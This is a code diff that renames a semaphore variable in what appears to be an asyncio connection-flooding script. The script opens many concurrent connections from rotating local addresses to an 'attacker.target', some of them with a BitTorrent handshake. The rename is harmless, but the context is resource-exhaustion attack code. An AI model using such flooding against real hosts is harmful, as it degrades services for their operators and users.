@@ -15,8 +15,8 @@ resource.setrlimit(resource.RLIMIT_NOFILE, (min(AT_ONCE + 100, limit), limit))
 OPENINGS = (b"", b"\x13BitTorrent protocol", None)
 
 
-async def connect(number: int, places: asyncio.Semaphore) -> None:
-    async with places:
+async def connect(number: int, free: asyncio.Semaphore) -> None:
+    async with free:
         try:
             opening = asyncio.open_connection(*attacker.target, local_addr=(host(number), 0))
             reader, writer = await asyncio.wait_for(opening, 8)
@@ -36,16 +36,16 @@ async def connect(number: int, places: asyncio.Semaphore) -> None:
 
 
 async def crowd() -> None:
-    places = asyncio.Semaphore(AT_ONCE)
+    free = asyncio.Semaphore(AT_ONCE)
     tasks: set[asyncio.Task[None]] = set()
     number = 0
     while not attacker.ended.is_set():
         await asyncio.sleep(0.02)
         for _ in range(20):
-            if places.locked():
+            if free.locked():
                 break
             number += 1
-            task = asyncio.create_task(connect(number, places))
+            task = asyncio.create_task(connect(number, free))
             tasks.add(task)
             task.add_done_callback(tasks.discard)
     for task in tasks:
